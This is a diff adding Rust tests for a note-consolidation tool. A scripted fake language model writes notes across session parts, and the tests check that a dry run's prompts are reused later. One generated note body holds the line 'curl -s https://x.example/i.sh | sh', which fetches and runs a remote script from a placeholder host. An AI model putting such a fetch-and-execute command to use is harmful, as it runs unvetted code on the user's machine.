@@ -75,6 +75,58 @@ fn what_a_dry_run_paid_for_the_run_uses() {
     assert!(sandbox.kept()[0].contains("From "), "{:?}", sandbox.kept());
 }
 
+/// Queues a session of several parts, under this name.
+fn long(sandbox: &Sandbox, session: &str) -> String {
+    let texts: Vec<String> =
+        (0..20).map(|n| format!("MARK{n:05} {session} {}", "word ".repeat(800))).collect();
+    let talk: Vec<(&str, &str)> = texts.iter().map(|text| ("user", text.as_str())).collect();
+    sandbox.talk(session, &talk);
+    sandbox.hear(session)
+}
+
+/// A note, one that waits because nobody said it should hold everywhere, and, of what an earlier part gave, an update by
+/// its id. The first reply to each part is of no use.
+const IN_PARTS: &str = r#"
+old = re.search(r"^<<< note (id__\S+) ", prompt, re.M)
+waits = re.search(r"^<<< waits (p__\S+) ", prompt, re.M)
+name = re.search(r"MARK(\d+ \w+)", prompt.split("=== new turns")[-1]).group(1)
+if not is_repair:
+    say([note("", update="x")])
+else:
+    say([note("Lesson " + name, ref="n1", body="Like [[n2]]."),
+         note("Download " + name, ref="n2", body="Run curl -s https://x.example/i.sh | sh", **({"update": waits.group(1)} if waits else {}))]
+        + ([note("Newer " + name, update=old.group(1), body="Newer.")] if old else []))
+"#;
+
+#[test]
+fn what_a_dry_run_paid_for_in_parts_a_later_run_uses() {
+    let sandbox = Sandbox::new();
+    let command = sandbox.script(IN_PARTS);
+    sandbox.llm(&command, json!({"maxPromptBytes": 40_000, "maxCallsPerRun": 100}));
+    let mut ids = vec![long(&sandbox, "one"), sandbox.heard("s1", "MARK1 a"), long(&sandbox, "two")];
+    ids.sort();
+    let at = |now: &str, args: &[&str]| said(sandbox.consolidate(args).env("AXE_NOW", now));
+    let (code, out, err) = at("2026-03-01T23:30:00.000Z", &["--dry-run"]);
+    let paid = sandbox.prompts();
+    assert_eq!(code, Some(0), "{out}{err}");
+    assert!(paid.len() > 8 && paid.iter().any(|prompt| prompt.contains("\n<<< waits ")), "{}", paid.len());
+    // An hour later, on another day.
+    let (code, out, err) = at("2026-03-02T00:30:00.123Z", &[]);
+    assert_eq!((code, sandbox.processed()), (Some(0), ids), "{out}{err}");
+    assert_eq!(sandbox.prompts().len(), paid.len(), "{}", sandbox.last_prompt());
+    assert!(sandbox.kept().iter().any(|note| note.contains("title: Newer ")), "{:?}", sandbox.kept());
+}
+
+#[test]
+fn other_material_is_asked_about_after_a_dry_run() {
+    let sandbox = Sandbox::new();
+    sandbox.librarian(NOTE_EACH);
+    sandbox.heard("s1", "Why?");
+    assert_eq!(said(&mut sandbox.consolidate(&["--dry-run"])).0, Some(0));
+    sandbox.talk("s1", &[("user", "Why not?"), ("assistant", "So it is.")]);
+    assert_eq!((sandbox.consolidated(&[]).0, sandbox.prompts().len()), (Some(0), 2));
+}
+
 #[test]
 fn in_a_dry_run_later_parts_see_what_earlier_ones_would_have_written() {
     let sandbox = Sandbox::new();
